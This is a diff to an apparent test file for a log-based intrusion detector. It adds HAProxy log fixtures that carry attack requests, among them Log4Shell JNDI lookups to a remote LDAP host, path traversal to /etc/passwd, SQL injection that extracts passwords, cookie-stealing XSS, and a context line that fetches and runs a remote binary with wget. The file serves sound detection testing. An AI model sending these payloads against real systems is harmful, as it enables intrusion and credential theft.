@@ -38,6 +38,16 @@ _OK = '10.1.2.3 - - [22/Nov/2004:10:00:01 +0000] "GET '
 _SYSLOG_WEB = 'Mar  8 05:22:28 web1 nginx: 89.231.227.233 - - [08/Mar/2024:05:22:28 +0100] "GET '
 _SYSLOG_OK = ('2024-03-08T05:22:28.123456+01:00 web1 httpd[811]: 10.0.0.5 - bob'
               ' [08/Mar/2024:05:22:28 +0100] "GET ')
+# HAProxy's HTTP log (option httplog) through syslog: the request last,
+# after the status, bytes, termination state and queues; an IPv6 client
+# unbracketed.
+_HAPROXY = ('Mar  8 05:22:28 lb1 haproxy[2211]: 61.2.3.4:52311 [08/Mar/2024:05:22:28.123]'
+            ' www~ app/web1 0/0/1/12/13 %s 4120 - - ---- 3/3/0/0/0 0/0 "GET ')
+_HAPROXY6 = ('2024-03-08T05:22:28.123456+01:00 lb1 haproxy[2211]: 2001:db8::7:52311'
+             ' [08/Mar/2024:05:22:28.123] https-in~ static/web2 10/0/30/69/109 %s +2750 - -'
+             ' --NI 1/1/1/1/0 0/0 {example.org|Mozilla/5.0 (X11)} {} "GET ')
+_HAPROXY_OK = ('Mar  8 05:22:28 lb1 haproxy[2211]: 10.1.2.3:40000 [08/Mar/2024:05:22:28.123]'
+               ' www~ app/web1 0/0/1/12/13 %s 4120 - - ---- 3/3/0/0/0 0/0 "GET ')
 # pf's filterlog (pfSense, OPNsense): rule, sub-rule, anchor, tracker,
 # interface, reason, action, direction, IP version, then the packet.
 _PF = "Mar  4 10:10:53 pfsense filterlog[37663]: 5,,,1000000103,vtnet0,match,"
@@ -332,6 +342,7 @@ FAMILIES = {
     "web Code Red/Nimda": ((0x7010,), [
         _WEB + '/scripts/root.exe?/c+dir HTTP/1.0" 404 1024 "-" "-"',
         _WEB + '/default.ida?NNNNNNNNNNNNNNNNNNNN%u9090%u6858%ucbd3%u7801 HTTP/1.0" 404 1024',
+        _HAPROXY % 404 + '/scripts/root.exe?/c+dir HTTP/1.0"',
     ], [
         _OK + '/downloads/cmd.exe-guide.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
     ]),
@@ -354,7 +365,10 @@ FAMILIES = {
         _WEB + '/GponForm/diag_Form?images/ HTTP/1.1" 404 1 "-" "Hello, World"',
         _WEB + '/shell?cd+/tmp;rm+-rf+*;wget+http://87.165.229.60/jaws;sh+/tmp/jaws HTTP/1.1"'
         ' 404 1 "-" "Hello, world"',
+        _HAPROXY % 200 + '/?x=${jndi:ldap://82.212.123.41:1389/a} HTTP/1.1"',
+        _HAPROXY6 % 404 + '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1"',
     ], [
+        _HAPROXY_OK % 200 + '/docs/jndi-lookup-guide.html HTTP/1.1"',
         _OK + '/docs/jndi-lookup-guide.html HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
         _OK + '/tpl?x=%24%7Bname%7D&y=${user} HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
         _OK + '/blog/php-cgi-allow_url_include-explained HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
@@ -383,7 +397,12 @@ FAMILIES = {
         # nginx's error log: the password file looked for under the root.
         _NGINX + 'open() "/var/www/html/etc/passwd" failed (2: No such file or directory)'
         ', client: 61.2.3.4, server: _, request: "GET /static/../../etc/passwd HTTP/1.1"',
+        _HAPROXY % 400 + '/cgi-bin/view.cgi?file=../../../../etc/passwd HTTP/1.1"',
+        _HAPROXY6 % 200 + '/index.php?page=%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1"',
     ], [
+        _HAPROXY_OK % 200 + '/docs/etc-passwd-format.html HTTP/1.1"',
+        # A request HAProxy could not parse.
+        _HAPROXY_OK % 400 + '<BADREQ>"',
         _OK + '/docs/etc-passwd-format.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _SYSLOG_OK + '/docs/etc-passwd-format.html HTTP/1.1" 200 512 "-" "curl/8.0"',
         _H + "sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/cat"
@@ -426,7 +445,11 @@ FAMILIES = {
         _WEB + '/item.php?id=1+AND+1=CASE+WHEN+1=1+THEN+1+ELSE+0+END HTTP/1.1" 200 1 "-" "M"',
         _WEB + '/item.php?id=1%20AND%20ASCII(SUBSTRING((SELECT%20password%20FROM%20users'
         '%20LIMIT%201),1,1))>64 HTTP/1.1" 200 1024 "-" "M"',
+        _HAPROXY % 200 + "/login.php?user=admin%27%20or%20%271%27=%271 HTTP/1.1\"",
+        _HAPROXY6 % 200 + '/item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--'
+        ' HTTP/1.1"',
     ], [
+        _HAPROXY_OK % 200 + '/search?q=select+from+union+station HTTP/1.1"',
         _OK + '/search?q=select+from+union+station HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _OK + '/search?q=union station select menu HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _OK + "/a?q=it's or isn't so HTTP/1.1\" 200 1024 \"-\" \"Mozilla/5.0\"",
@@ -453,7 +476,9 @@ FAMILIES = {
         _WEB + '/search?q=<img src=x onerror=alert(1)> HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _WEB + '/c?t=<svg onload=prompt(1)> HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _SYSLOG_OK + '/?q=<script>alert(1)</script> HTTP/1.1" 200 512 "-" "curl/8.0"',
+        _HAPROXY % 200 + '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1"',
     ], [
+        _HAPROXY_OK % 200 + '/js/script.js HTTP/1.1"',
         _OK + '/js/script.js HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _OK + '/docs/the script tag.html HTTP/1.1" 404 1024 "-" "Mozilla/5.0"',
         _OK + '/gallery/img src online.html HTTP/1.1" 404 1024 "-" "Mozilla/5.0"',
@@ -476,6 +501,8 @@ FAMILIES = {
         _WEB + '/.git/config HTTP/1.1" 404 19 "-" "Mozilla/5.0"',
         _WEB + '/.aws/credentials HTTP/1.1" 404 19 "-" "Mozilla/5.0"',
         _SYSLOG_WEB + '/w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1" 400 1024 "-" "-"',
+        _HAPROXY % 404 + '/.git/config HTTP/1.1"',
+        _HAPROXY6 % 404 + '/nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0"',
         # DFind's probe has no Host header: Apache 2.2's error, 2.4's debug message.
         "[Fri Mar 08 05:22:28 2024] [error] [client 61.2.3.4] client sent HTTP/1.1 request"
         " without hostname (see RFC2616 section 14.23): /w00tw00t.at.ISC.SANS.DFind:)",
@@ -490,6 +517,7 @@ FAMILIES = {
         _OK + '/docs/.env.example HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _OK + '/blog/what-is-a-.env-file HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _OK + '/.well-known/security.txt HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _HAPROXY_OK % 200 + '/blog/what-is-a-.env-file HTTP/1.1"',
         # A client without a Host header, not DFind.
         "[Fri Mar 08 05:22:28 2024] [error] [client 10.1.2.3] client sent HTTP/1.1 request"
         " without hostname (see RFC2616 section 14.23): /",
@@ -990,7 +1018,12 @@ class DefaultContentTests(SynchronousTestCase):
                  _NGINX + ", client: " * 6000, _NGINX + "[client 1.2.3.4] ModSecurity: " * 2000,
                  "[Fri Mar 08 05:22:28 2024] [info] [client 61.2.3.4] auth_ldap authenticate: user"
                  " " + "x authentication failed; URI " * 2000 + "][" * 10000,
-                 "2016-03-18 00:34:06 " + 'SMTP protocol error in "AUTH" H=' * 1700 + " AUTH"]
+                 "2016-03-18 00:34:06 " + 'SMTP protocol error in "AUTH" H=' * 1700 + " AUTH",
+                 # HAProxy's log: its fields again and again, captured headers
+                 # never closed, a request of quotes.
+                 "Mar  8 05:22:28 lb1 haproxy[1]: " + "1.2.3.4:5 [1] a b/c 0 200 1 " * 2000,
+                 (_HAPROXY6 % 200).partition(" {")[0] + " {" * 30000,
+                 _HAPROXY % 200 + "%22%20or%20" * 5000 + '\\"' * 5000]
         began = time.process_time()
         for line in lines:
             self.miceIds(line)
